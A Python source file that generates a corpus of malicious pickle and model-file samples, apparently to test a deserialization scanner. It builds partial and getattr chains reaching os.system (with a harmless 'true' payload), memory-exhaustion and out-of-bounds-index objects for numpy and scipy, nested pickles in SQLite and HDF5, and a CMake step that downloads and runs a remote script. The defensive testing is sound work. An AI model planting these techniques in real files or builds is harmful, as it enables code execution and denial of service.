"""Pickles that call nothing which is not known, and reach something by what they hold: partials that are given another
function, containers that fill another object, what the whole program shares, iterators without an end, arrays of a size
that no file has, and numbers that compiled code takes for indices. A payload of `true`; none is ever loaded."""

import io
import pickle
import sqlite3
import struct
import zlib

import h5py
import joblib
import numpy as np
import scipy.sparse
import scipy.spatial

from .assembly import apply, data, host, name, proto, text, tuple_of

NONE, NO = b"N", b"\x89"
PARTIAL, INT, GETATTR, ORDERED = name("functools", "partial"), name("builtins", "int"), name("builtins", "getattr"), name("collections", "OrderedDict")


def whole(number):
    return b"\x8a\x08" + struct.pack("<q", number)


def mapping(*pairs):
    return b"}(" + b"".join(pairs) + b"u"


def listed(*values):
    return b"](" + b"".join(values) + b"e"


def new(kind, *arguments):
    return kind + tuple_of(*arguments) + b"\x81"


def built(value, state):
    return value + state + b"b"


def deferred(function, *arguments):
    """A partial of `int` whose state says that it calls something else."""
    return built(apply(PARTIAL, INT), tuple_of(function, tuple_of(*arguments), b"}", NONE))


def partials():
    attributes = apply(deferred(GETATTR, name("numpy", "mean"), text("__globals__")))
    module = apply(deferred(name("operator", "itemgetter"), text("os")))
    command = apply(deferred(GETATTR, module, text("system")))
    return {
        "command": apply(deferred(command, text("true"))), "attributes": attributes, "subclasses": apply(deferred(GETATTR, ORDERED, text("__subclasses__"))),
        "held": apply(PARTIAL, GETATTR, ORDERED), "named": built(apply(PARTIAL, INT), tuple_of(INT, b")", mapping(text("base"), GETATTR), NONE)),
        "attribute": built(apply(PARTIAL, INT), tuple_of(INT, b")", b"}", mapping(text("__call__"), INT))), "other": deferred(name("operator", "mul")),
        "made": built(new(PARTIAL, INT), tuple_of(GETATTR, tuple_of(ORDERED, text("mro")), b"}", NONE)), "factory": apply(name("collections", "defaultdict"), deferred(GETATTR, ORDERED, text("mro"))),
        "method": apply(GETATTR, new(name("scipy.sparse._csr", "csr_matrix")), text("__init__")), "function": apply(GETATTR, apply(GETATTR, new(name("scipy.sparse._csr", "csr_matrix")), text("tocsr")), text("__globals__")),
        "writer": apply(name("operator", "methodcaller"), text("to_xml"), text("/tmp/x")),
    }


def shared():
    return {
        "member": built(apply(name("re", "RegexFlag"), b"K\x02"), mapping(text("_value_"), b"K\x09")), "logger": built(apply(name("logging", "getLogger"), text("x")), mapping(text("disabled"), b"\x88")),
        "zone": built(apply(name("pytz", "_UTC")), mapping(text("zone"), text("x"))), "filled": built(apply(name("collections", "UserDict")), mapping(text("data"), apply(name("logging", "getLogger"), text("x")))) + text("a") + NONE + b"s",
        "chained": built(apply(name("collections", "ChainMap")), mapping(text("maps"), listed(new(name("argparse", "Namespace"))))) + text("a") + NONE + b"s",
        "evaluated": apply(name("operator", "getitem"), name("typing", "List"), text("print(1)")),
    }


def sizes():
    count, numbers, huge = apply(name("itertools", "count")), apply(name("builtins", "range"), whole(10**11)), tuple_of(whole(10**11))
    deque = name("collections", "deque")
    return {
        "count": apply(deque, count), "bounded": apply(deque, count, b"K\x00"), "repeat": apply(deque, apply(name("itertools", "repeat"), NONE)), "range": apply(name("collections", "Counter"), numbers),
        "list": apply(name("collections", "UserList"), numbers), "chained": apply(deque, apply(name("itertools", "islice"), count, whole(10**11))), "numbers": apply(name("array", "array"), text("d"), numbers),
        "addresses": apply(deque, apply(name("ipaddress", "IPv6Network"), text("::/0"))), "pattern": apply(name("re", "_compile"), text("(a+)+$"), b"K\x00"), "deep": b"}" + b")" + b"\x85" * 20000 + NONE + b"s",
        "made": apply(name("copyreg", "__newobj__"), name("builtins", "bytes"), whole(10**11)), "decimal": apply(INT, apply(name("decimal", "Decimal"), text("1e999999999"))),
        "array": apply(name("numpy", "ndarray"), huge, text("O")), "empty": apply(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), huge, data(b"O")),
        "masked": apply(name("numpy.ma.core", "_mareconstruct"), name("numpy.ma.core", "MaskedArray"), name("numpy", "ndarray"), huge, text("O")), "bytes": apply(name("numpy", "void"), whole(10**11)),
        "matrix": apply(name("scipy.sparse._csr", "csr_matrix"), tuple_of(whole(10**12), whole(10**12))), "lengths": apply(name("numpy", "ndarray"), tuple_of(whole(10**5), whole(10**6)), text("O")),
    }


def numbers():
    """Whole objects of numpy and scipy in which one number leads out of memory."""
    matrix = scipy.sparse.csr_matrix(np.eye(4))
    matrix.indices[2] = 1 << 30
    begins = scipy.sparse.csc_matrix(np.eye(4))
    begins.indptr[2] = 1 << 20
    order = scipy.spatial.cKDTree(np.arange(80.0).reshape(40, 2))
    state = list(order.__getstate__())
    state[7] = state[7].copy()
    state[7][3] = 1 << 40
    nodes = list(order.__getstate__())
    nodes[0] = nodes[0].copy()
    nodes[0][56:64] = np.frombuffer(struct.pack("<q", 1 << 40), "S1")

    class Tree:
        def __init__(self, state):
            self.state = state

        def __reduce__(self):
            return scipy.spatial.cKDTree.__new__, (scipy.spatial.cKDTree,), tuple(self.state)

    generator = np.random.RandomState(1)
    twister = generator.__reduce__()[2]
    twister["state"]["pos"] = 1 << 30

    class Generator:
        def __reduce__(self):
            return (*generator.__reduce__()[:2], twister)

    for label, value in {"index": matrix, "begin": begins, "twister": Generator()}.items():
        for protocol in (2, 5):
            yield f"{label}-{protocol}.pkl", pickle.dumps(value, protocol)
    out = io.BytesIO()
    joblib.dump(matrix, out)
    yield "index.joblib", out.getvalue()
    tree = name("scipy.spatial._ckdtree", "cKDTree") + b")\x81"
    for label, state in {"order": state, "node": nodes}.items():
        inner = pickle.dumps(tuple(state), 4)
        yield f"tree-{label}.pkl", b"\x80\x04" + tree + inner[11:-1] + b"b."


def make(corpus):
    for what, rows in {"partial": partials(), "shared": shared(), "size": sizes()}.items():
        for label, body in rows.items():
            corpus.found("pickle-deferred", f"{what}-{label}.pkl", host(corpus.rng("deferred", what, label), body), "calls only what is known, and reaches more")
    for label, content in numbers():
        corpus.found("pickle-numbers", label, content, "a number that compiled code takes for an index")
    inner = proto(apply(name("os", "system"), text("true")))
    database = sqlite3.connect(corpus.path("kept", "models.db", "malicious", "a column of models, each a pickle that is packed"))
    database.execute("CREATE TABLE models (name TEXT, body BLOB)")
    database.execute("INSERT INTO models VALUES ('clf', ?)", (zlib.compress(inner),))
    database.commit()
    database.close()
    with h5py.File(corpus.path("hdf5", "hostile-object.h5", "malicious", "an object that a dataset keeps as a pickle"), "w") as file:
        file.create_dataset("object", data=np.void(inner))
    cmake = "project(x)\nfile(DOWNLOAD https://example.org/s.sh s.sh EXPECTED_HASH SHA256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)\nexecute_process(COMMAND sh s.sh)\n"
    corpus.folder("build-scripts", "cmake-runs", {"CMakeLists.txt": cmake}, "found", "a script by its digest, started")
    corpus.malicious("pickle-nested", "kept-bytes.pkl", proto(mapping(text("model"), data(inner))), "a pickle that is kept as bytes, for somebody to load")
    corpus.malicious("pickle-nested", "kept-text.pkl", b"\x80\x02" + apply(b"c_codecs\nencode\n", b"X" + struct.pack("<I", len(inner.decode("latin1").encode())) + inner.decode("latin1").encode(), text("latin1")) + b".", "the same, as protocol 2 writes bytes")
